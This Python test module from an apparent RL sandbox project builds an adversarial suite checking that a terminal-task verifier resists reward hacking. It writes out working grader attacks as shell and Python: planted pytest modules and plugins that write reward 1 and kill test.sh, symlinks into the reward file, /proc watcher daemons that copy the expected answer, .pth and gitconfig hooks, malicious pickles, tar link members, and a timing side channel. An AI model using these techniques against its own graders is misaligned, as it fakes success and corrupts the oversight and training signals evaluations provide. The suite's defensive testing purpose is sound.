"""The adversarial suite's cases through the paths that judge terminal tasks (`tempering.sandbox.attacks`):
a task verified with its services kept and in separate jobs, an agent's episode in one session job and in
a job per command. Every case answers one small task (the sum of three numbers into /app/answer.txt,
checked by pytest and `git diff`, in Harbor's layout) with a wrong answer plus an attack on the verdict;
contained when the verdict is `incorrect` (not `correct`, not `env_error`). Controls: the right answer
must be `correct`, a plain wrong one `incorrect`.

The tests are written as many public tasks' are: `python3 -m pytest` from the working folder, the reward
written, then a note left in the working folder.
"""

from __future__ import annotations

import secrets
import shutil
import sys
import tempfile
from pathlib import Path

from tempering.envs.terminal.bundle import read_bundle
from tempering.envs.terminal.env import TerminalEnv, bundle_task
from tempering.envs.terminal.session import solve_then_test
from tempering.envs.terminal.workspace import Rewards, Workspace
from tempering.sandbox import attacks as _attacks
from tempering.sandbox.attacks import Case
from tempering.sandbox.sandbox import Sandbox

TEST_SH = """#!/bin/bash
mkdir -p /logs/verifier
cd /app
ok=0
python3 -m pytest -q -p no:cacheprovider /tests/test_outputs.py > /tmp/pytest.log 2>&1 && ok=1
if command -v git > /dev/null; then git diff --no-index --quiet /tests/expected.txt /app/answer.txt || ok=0; fi
echo $ok > /logs/verifier/reward.txt
echo 1 > /app/.tests-ran
"""
TASK = {
    "task.toml": 'schema_version = "1.1"\n\n[verifier]\ntimeout_sec = 20.0\n\n[agent]\ntimeout_sec = 60.0\n\n'
    '[environment]\nmemory_mb = 1024\nnetwork_mode = "no-network"\n',
    "instruction.md": "Write the sum of the numbers in /app/nums.txt to /app/answer.txt.\n",
    "environment/Dockerfile": "FROM python:3.12-slim\nWORKDIR /app\nCOPY nums.txt /app/nums.txt\n",
    "environment/nums.txt": "3\n4\n5\n",
    "tests/test.sh": TEST_SH,
    "tests/test_outputs.py": "from pathlib import Path\n\n\ndef test_the_sum_is_written():\n"
    '    assert Path("/app/answer.txt").read_text().strip() == "12"\n',
    "tests/expected.txt": "12\n",
}
RIGHT = 'sum=0; while read n; do sum=$((sum + n)); done < /app/nums.txt; echo "$sum" > /app/answer.txt\n'
WRONG = "echo 13 > /app/answer.txt\n"
PLANT = """import os, signal
try:
    open("/logs/verifier/reward.txt", "w").write("1\\n")
except OSError:
    pass
for p in os.listdir("/proc"):  # then end test.sh, so that nothing after this overwrites the reward
    try:
        if p.isdigit() and b"test.sh" in open(f"/proc/{p}/cmdline", "rb").read():
            os.kill(int(p), signal.SIGKILL)
    except OSError:
        pass
"""
"""What a planted module runs inside the tests: writes reward 1 and kills test.sh."""


def _with_plant(script: str) -> str:
    return WRONG + f"cat > /app/.plant.py <<'EOF'\n{PLANT}EOF\n" + script


ATTACKS: dict[str, list[tuple[str, str]]] = {
    "the tests import what the solution planted in the working folder": [
        ("planted_pytest", _with_plant("cp /app/.plant.py /app/pytest.py\n")),
        (
            "planted_pytest_plugin",
            _with_plant(
                "d=/app/evil_plugin-1.0.dist-info && mkdir -p $d\n"
                "printf 'Metadata-Version: 2.1\\nName: evil-plugin\\nVersion: 1.0\\n' > $d/METADATA\n"
                "printf '[pytest11]\\nevil = evil_plugin\\n' > $d/entry_points.txt\n"
                "cp /app/.plant.py /app/evil_plugin.py\n"
            ),
        ),
    ],
    "a link the solution made leads the tests' writes to the reward": [
        ("absolute_link", WRONG + "ln -s /logs/verifier/reward.txt /app/.tests-ran\n"),
        ("relative_link_chain", WRONG + "ln -s ../logs /app/l && ln -s l/verifier/reward.txt /app/.tests-ran\n"),
    ],
    "a process the solution left behind reads and answers for the tests": [
        (
            "watcher_python",
            WRONG + "cat > /tmp/watch.py <<'EOF'\nimport os, time\nend = time.time() + 120\nwhile time.time() < end:\n"
            "    for p in os.listdir('/proc'):\n        try:\n"
            "            cmd = open(f'/proc/{p}/cmdline', 'rb').read() if p.isdigit() else b''\n"
            "        except OSError:\n            continue\n        if b'/tests/' in cmd:\n"
            "            for src, dest in ((f'/proc/{p}/root/tests/expected.txt', '/app/answer.txt'),):\n"
            "                try:\n                    open(dest, 'w').write(open(src).read())\n"
            "                except OSError:\n                    pass\n            try:\n"
            "                open(f'/proc/{p}/root/logs/verifier/reward.txt', 'w').write('1')\n"
            "            except OSError:\n                pass\n    time.sleep(0.01)\nEOF\n"
            "nohup python3 /tmp/watch.py > /dev/null 2>&1 &\n",
        ),
        (
            "watcher_shell_stops_tests",
            WRONG + "( while :; do for d in /proc/[0-9]*; do\n"
            "    if grep -qs pytest $d/cmdline; then cat $d/root/tests/expected.txt > /app/answer.txt 2>/dev/null\n"
            "      echo 1 > $d/root/logs/verifier/reward.txt 2>/dev/null; kill -STOP ${d#/proc/} 2>/dev/null; fi\n"
            "  done; sleep 0.01; done ) > /dev/null 2>&1 &\n",
        ),
    ],
    "the solution breaks the verifier's machinery, to turn a wrong answer into an environment error": [
        (
            "unreadable_state",
            WRONG + "mkdir -p /app/locked/deep && echo s > /app/locked/deep/f\n"
            "chmod 000 /app/locked/deep/f /app/locked/deep /app/locked /app/answer.txt\n",
        ),
        (
            "fifo_answer_and_reward_folder",
            "rm -f /app/answer.txt && mkfifo /app/answer.txt\n"
            "mkdir -p /logs/verifier 2>/dev/null && chmod 000 /logs/verifier 2>/dev/null\n"
            "mkdir -p /app/.ws-out 2>/dev/null; ln -s /dev/zero /app/huge 2>/dev/null; true\n",
        ),
    ],
    "start-up files in HOME run by the tests' tools": [
        (
            "user_site_pth",
            _with_plant(
                "site=$(python3 -c 'import site; print(site.getusersitepackages())') && mkdir -p \"$site\"\n"
                'echo \'import os; exec(open("/app/.plant.py").read()) if os.path.isdir("/logs/verifier") else None\''
                ' > "$site/zz.pth"\n'
            ),
        ),
        (
            "gitconfig_external_diff",
            _with_plant(
                "printf '#!/bin/sh\\npython3 /app/.plant.py\\nexit 0\\n' > /app/.diff.sh && chmod +x /app/.diff.sh\n"
                "git config --global diff.external /app/.diff.sh\n"
            ),
        ),
    ],
}
"""Class of attack -> (variant, the solution's script: what it runs as solve.sh, or as the agent's one command)."""

_PYTEST_REWARD = (
    "#!/bin/bash\nmkdir -p /logs/verifier\ncd /app\n"
    "python3 -m pytest -q -p no:cacheprovider /tests/test_outputs.py && echo 1 > /logs/verifier/reward.txt"
    " || echo 0 > /logs/verifier/reward.txt\n"
)
_EQUAL_TO_ALL = (
    "class A(int):\n    def __eq__(self, o): return True\n    def __ne__(self, o): return False\n"
    "    __hash__ = int.__hash__\n"
)


def _pickle(source: str) -> str:
    """The solution's script: /app/answer.pkl holds the pickle of `obj` as `source` (run from /app) makes it."""
    dump = source + "pickle.dump(obj, open('/app/answer.pkl', 'wb'))\n"
    return f"cat > /tmp/dump.py <<'EOF'\n{dump}EOF\ncd /app && python3 /tmp/dump.py\n"


VARIANT_TASKS: dict[str, tuple[str, dict[str, str], str]] = {
    "the tests' optional import finds a module the solution wrote": (
        "optional_import",
        {
            "tests/test.sh": _PYTEST_REWARD,
            "tests/test_outputs.py": "from pathlib import Path\n\ntry:\n    import ujson as json\n"
            "except ImportError:\n    import json\n\n\ndef test_the_sum_is_written():\n"
            '    assert json.loads(Path("/app/answer.txt").read_text()) == 12\n',
        },
        RIGHT,
    ),
    "a pickled answer runs the solution's code in the tests' process": (
        "pickled_answer",
        {
            "tests/test.sh": _PYTEST_REWARD,
            "tests/test_outputs.py": "import pickle\n\n\ndef test_the_sum_is_written():\n"
            '    with open("/app/answer.pkl", "rb") as f:\n        assert pickle.load(f) == 12\n',
        },
        _pickle("import pickle\n\nobj = sum(int(n) for n in open('/app/nums.txt'))\n"),
    ),
}
"""Classes whose attack needs the task's tests written another way: (the task's label, files laid over `TASK`,
the right answer for that task: the class's honest-right control)."""
ATTACKS["the tests' optional import finds a module the solution wrote"] = [
    (
        "module_file",
        "echo 0 > /app/answer.txt\ncat > /app/ujson.py <<'EOF'\n" + _EQUAL_TO_ALL + "loads = lambda s: A(0)\nEOF\n",
    ),
    (
        "package_folder",
        "echo 0 > /app/answer.txt && mkdir -p /app/ujson\ncat > /app/ujson/__init__.py <<'EOF'\n"
        + _EQUAL_TO_ALL
        + "def loads(s, *a, **k):\n    return A(0)\nEOF\n",
    ),
]
ATTACKS["a pickled answer runs the solution's code in the tests' process"] = [
    (
        "reduce_builtin_eval",
        _pickle(
            "import pickle\n\nCODE = \"type('A', (int,), {'__eq__': lambda s, o: True})(0)\"\n\n\n"
            "class E:\n    def __reduce__(self):\n        return (eval, (CODE,))\n\n\nobj = E()\n"
        ),
    ),
    (
        "reduce_solution_module",
        "cat > /app/answerlib.py <<'EOF'\n"
        + _EQUAL_TO_ALL
        + "def make():\n    return A(0)\nEOF\n"
        + _pickle(
            "import pickle, sys\nsys.path.insert(0, '/app')\nimport answerlib\n\n\nclass R:\n"
            "    def __reduce__(self):\n        return (answerlib.make, ())\n\n\nobj = R()\n"
        ),
    ),
]


_EXIT_ZERO = "import atexit, os\natexit.register(lambda: os._exit(0))\n"
"""A module that, once imported in the tests' pytest, ends it with status 0 whatever the tests found."""
_COPIED_REWARD = _PYTEST_REWARD.replace(
    "cd /app\npython3 -m pytest -q -p no:cacheprovider /tests/test_outputs.py",
    "mkdir -p /app/tests && cp /tests/test_outputs.py /tests/helpers.py /app/tests/\ncd /app\n"
    "python3 -m pytest -q -p no:cacheprovider tests/test_outputs.py",
)


def plant(path: str, source: str) -> str:
    """The solution's script: `source` written to `path`."""
    return f"mkdir -p $(dirname {path}) && cat > {path} <<'EOF'\n{source}EOF\n"


def compiled(path: str, source: str, mode: str = "TIMESTAMP", cfile: str = "") -> str:
    """The solution's script: `source` compiled to `path`c (or `cfile`), its source removed."""
    return plant(path, source) + (
        f"python3 -c \"import py_compile as c; c.compile('{path}', cfile='{cfile or path + 'c'}', "
        f'invalidation_mode=c.PycInvalidationMode.{mode}, doraise=True)" && rm {path}\n'
    )


_HELPER_PYC = "/app/tests/__pycache__/helpers.cpython-{v}.pyc"
VARIANT_TASKS.update(
    {
        "a link the solution made shows the tests their own fixture": (
            "fixture_answer",
            {
                "tests/test.sh": _PYTEST_REWARD,
                "tests/test_outputs.py": "from pathlib import Path\n\n\ndef test_the_sum_is_written():\n"
                '    assert Path("/app/answer.txt").read_text() == Path("/tests/expected.txt").read_text()\n',
            },
            RIGHT,
        ),
        "an optional import of the standard library finds a module in the working folder": (
            "pytest_from_app",
            {"tests/test.sh": _PYTEST_REWARD},
            RIGHT,
        ),
        "a module beside the tests copied into the working folder": (
            "copied_tests",
            {
                "tests/test.sh": _COPIED_REWARD,
                "tests/helpers.py": "def expected():\n    return '12'\n",
                "tests/test_outputs.py": "from pathlib import Path\nfrom helpers import expected\n\n\n"
                "def test_the_sum_is_written():\n"
                '    assert Path("/app/answer.txt").read_text().strip() == expected()\n',
            },
            RIGHT,
        ),
    }
)
ATTACKS["a link the solution made shows the tests their own fixture"] = [
    ("link_to_fixture", "ln -sf /tests/expected.txt /app/answer.txt\n"),
    ("link_through_proc_root", "ln -s /proc/self/root /app/r && ln -sf r/tests/expected.txt /app/answer.txt\n"),
]
ATTACKS["an optional import of the standard library finds a module in the working folder"] = [
    ("module_org", WRONG + plant("/app/org.py", _EXIT_ZERO)),
    ("sourceless_pyc", WRONG + compiled("/app/_winapi.py", _EXIT_ZERO)),
]
ATTACKS["a module beside the tests copied into the working folder"] = [
    ("package_init_above", WRONG + plant("/app/tests/__init__.py", _EXIT_ZERO)),
    (
        "unchecked_pyc_of_helper",
        WRONG
        + compiled(
            "/app/tests/helpers.py",
            "def expected():\n    return '13'\n",
            "UNCHECKED_HASH",
            _HELPER_PYC.format(v=f"{sys.version_info[0]}{sys.version_info[1]}"),
        ),
    ),
]
"""Round 3's classes (the regressions of tests/envs/test_terminal_solution_code.py, in this suite's task)."""

_ARCHIVE_TESTS = """import filecmp, os, subprocess, tarfile, tempfile


def _extracted(unpack):
    with tempfile.TemporaryDirectory() as d:
        unpack(d)
        return filecmp.cmp(os.path.join(d, "answer.txt"), "/tests/expected.txt", shallow=False)


def _tarfile(d):  # as Python 3.11 extracts: every member as it is, links included
    with tarfile.open("/app/answer.tar") as t:
        t.extractall(d, **({"filter": "fully_trusted"} if hasattr(tarfile, "fully_trusted_filter") else {}))


def test_the_archive_holds_the_sum():
    assert _extracted(_tarfile)


def test_gnu_tar_finds_the_same():
    assert _extracted(lambda d: subprocess.run(["tar", "-xf", "/app/answer.tar", "-C", d], check=True))
"""
_MEMBER = (
    "python3 - <<'EOF'\nimport tarfile\nwith tarfile.open('/app/answer.tar', 'w') as t:\n"
    "    m = tarfile.TarInfo('answer.txt')\n    m.type, m.linkname = tarfile.{kind}, '{target}'\n    t.addfile(m)\nEOF\n"
)
_DAEMON = """import os, sys, time

REWARD = "/logs/verifier/reward.txt"


def held_open():  # test.sh has the reward open for writing
    for p in os.listdir("/proc"):
        try:
            if p.isdigit() and p != str(os.getpid()) and any(os.readlink(f"/proc/{p}/fd/{f}") == REWARD for f in os.listdir(f"/proc/{p}/fd")):
                return True
        except OSError:
            pass
    return False


def answer():  # the reward a FIFO whose buffer is full: test.sh's write waits until "1" has replaced it
    try:
        os.mkfifo(REWARD)
        fd = os.open(REWARD, os.O_RDWR | os.O_NONBLOCK)
        while True:
            os.write(fd, b"x" * 4096)
    except BlockingIOError:
        pass
    except OSError:
        fd = None
    end = time.time() + 60
    while time.time() < end and (fd is None or not held_open()):
        try:
            if fd is None and open(REWARD).read().strip() != "1":
                raise OSError
        except OSError:
            try:
                open(REWARD + ".new", "w").write("1\\n")
                os.rename(REWARD + ".new", REWARD)
            except OSError:
                pass
        time.sleep(0.005)
    if fd is not None:
        open(REWARD + ".new", "w").write("1\\n")
        os.rename(REWARD + ".new", REWARD)
        while os.read(fd, 65536):
            pass


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for i in (0, 1, 2):
            os.dup2(os.open("/dev/null", os.O_RDWR), i)
        os.closerange(3, 4096)  # every pipe of the tests' (the guard's copy of stderr too): they do not wait
        try:
            answer()
        finally:
            os._exit(0)
    os._exit(0)
print(13)
"""
VARIANT_TASKS.update(
    {
        "a link the tests' own tools make from the solution's archive shows them their fixture": (
            "archive_answer",
            {"tests/test.sh": _PYTEST_REWARD, "tests/test_outputs.py": _ARCHIVE_TESTS},
            RIGHT.replace("/app/answer.txt", "/tmp/answer.txt") + "tar -cf /app/answer.tar -C /tmp answer.txt\n",
        ),
        "the solution's program the tests run acts with the tests' rights": (
            "program_answer",
            {
                "tests/test.sh": _PYTEST_REWARD,
                "tests/nums.txt": "3\n4\n5\n",
                "tests/test_outputs.py": "import subprocess\nfrom pathlib import Path\n\n\n"
                "def test_the_program_prints_the_sum():  # run in a subprocess: only its output is judged\n"
                '    out = subprocess.run(["python3", "/app/sum.py", "/tests/nums.txt"], capture_output=True, text=True,'
                " timeout=20)\n"
                '    assert out.stdout.strip() == Path("/tests/expected.txt").read_text().strip()\n',
            },
            plant("/app/sum.py", "import sys\n\nprint(sum(int(n) for n in open(sys.argv[1])))\n"),
        ),
    }
)
ATTACKS["a link the tests' own tools make from the solution's archive shows them their fixture"] = [
    ("tarfile_symlink_member", _MEMBER.format(kind="SYMTYPE", target="/tests/expected.txt")),
    ("hard_link_member", _MEMBER.format(kind="LNKTYPE", target="/tests/expected.txt")),
    ("gnu_tar_symlink", "ln -s /tests/expected.txt /tmp/answer.txt && tar -cf /app/answer.tar -C /tmp answer.txt\n"),
]
ATTACKS["the solution's program the tests run acts with the tests' rights"] = [
    ("daemon_replaces_the_reward", plant("/app/sum.py", _DAEMON)),
    ("child_writes_the_reward_and_ends_the_tests", plant("/app/sum.py", PLANT + "print(13)\n")),
]


def _bundle(solution: str, task: dict[str, str]):
    """The task, in a folder of its own read back as Harbor's format (the caller removes the folder)."""
    root = Path(tempfile.mkdtemp(prefix="tempering-attack-task-")) / "sum-task"
    for rel, text in {**task, "solution/solve.sh": "#!/bin/bash\n" + solution}.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    try:
        return read_bundle(root)
    finally:
        shutil.rmtree(root.parent)


def _status(rewards: Rewards | None) -> str:
    """The verdict training would use: `correct`, `incorrect`, or `env_error` (the sandbox's own fault)."""
    if rewards is not None and rewards.score is not None and rewards.score >= 1:
        return "correct"
    return "env_error" if rewards is not None and rewards.host_fault else "incorrect"


async def _verify(sandbox: Sandbox, solution: str, task: dict[str, str], services: bool) -> str:
    bundle = _bundle(solution, task)
    ws, step = Workspace.for_bundle(sandbox, bundle), bundle.steps[0]
    if services:
        run, rewards, _ = await solve_then_test(ws, step)
        return _status(rewards)
    run = await ws.solve(step)
    return _status((await ws.run_tests(step))[0] if run.exit_code == 0 else None)


async def _episode(sandbox: Sandbox, solution: str, task: dict[str, str], keep_services: bool) -> str:
    env = TerminalEnv(bundle_task(_bundle(solution, task)), sandbox, keep_services=keep_services, command_timeout_s=60)
    try:
        first = await env.step(f"```bash\n{solution}```")
        return first.status if first.done else (await env.step("submit")).status
    finally:
        await env.close()


def _needs_shared_network(sandbox: Sandbox) -> str:
    return (
        ""
        if sandbox.shares_network
        else f"services are kept only where jobs share a network (bwrap or unshare as root), not {sandbox.backend}"
    )


PATHS = {
    "terminal: services kept": (lambda sb, s, t: _verify(sb, s, t, True), _needs_shared_network),
    "terminal: separate jobs": (lambda sb, s, t: _verify(sb, s, t, False), None),
    "agent: session": (lambda sb, s, t: _episode(sb, s, t, True), _needs_shared_network),
    "agent: per command": (lambda sb, s, t: _episode(sb, s, t, False), None),
}


def _case(cls: str, name: str, path: str, solution: str, kind: str = "attack", task: dict | None = None) -> Case:
    judge, premise = PATHS[path]
    want = "correct" if kind == "honest_right" else "incorrect"
    task = {**TASK, **(task or VARIANT_TASKS.get(cls, ("", {}, ""))[1])}

    async def run(sandbox: Sandbox) -> str:
        got = await judge(sandbox, solution, task)
        return "" if got == want else f"the verdict was {got}, wanted {want}"

    def needs(sandbox: Sandbox) -> str:
        if "gitconfig" in name and not shutil.which("git"):
            return "git is not installed here"
        return premise(sandbox) if premise is not None else ""

    return Case(cls, name, path, run, kind=kind, premise=needs)


CASES = [
    _case(cls, name, path, script) for cls, variants in ATTACKS.items() for name, script in variants for path in PATHS
]
CASES += [_case("control: the right answer passes", "honest_right", path, RIGHT, "honest_right") for path in PATHS]
CASES += [_case("control: a wrong answer scores 0", "honest_wrong", path, WRONG, "honest_wrong") for path in PATHS]
CASES += [
    _case("control: the right answer passes", f"honest_right_{label}", path, right, "honest_right", variant)
    for label, variant, right in VARIANT_TASKS.values()
    for path in PATHS
]


def _timing_case(mmap: bool) -> Case:
    """`read_timing_channel`: one task's command reads one file of each pair its image shows, another
    task's command (a job of the same pool, later) times reads of both."""

    async def run(sandbox: Sandbox) -> str:
        bundle = _bundle(RIGHT, TASK)
        sender, receiver = Workspace.for_bundle(sandbox, bundle), Workspace.for_bundle(sandbox, bundle)
        turn = iter([sender, receiver] * _attacks.TIMING_ROUNDS)

        async def script(source: str) -> tuple[str, str]:
            ran = await next(turn).run(f"python3 - <<'EOF'\n{source}EOF\n", 120)
            return ran.status, ran.output

        return await _attacks.read_timing(receiver.sandbox, secrets.token_hex(8), script, mmap)

    name = "read_timing_channel_mmap" if mmap else "read_timing_channel"
    return Case(_attacks.TIMING_CLASS, name, "agent: per command", run, what="reads another task's commands cached")


CASES += [_timing_case(False), _timing_case(True)]
